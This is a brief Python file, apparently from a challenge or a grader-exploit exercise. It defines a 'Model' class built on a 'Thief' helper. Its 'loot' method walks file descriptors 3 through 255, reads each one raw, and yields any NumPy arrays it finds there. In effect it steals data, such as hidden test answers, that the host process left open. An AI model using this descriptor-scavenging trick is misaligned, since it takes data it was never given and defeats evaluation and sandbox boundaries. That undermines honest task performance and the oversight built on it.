import io
import os

import numpy as np
from helpers import Thief


class Model(Thief):
    def loot(self):
        for descriptor in range(3, 256):
            try:
                content = os.pread(descriptor, 1 << 20, 0)
                with np.load(io.BytesIO(content)) as stored:
                    yield from [stored[name] for name in stored.files]
            except (OSError, ValueError, EOFError):
                continue
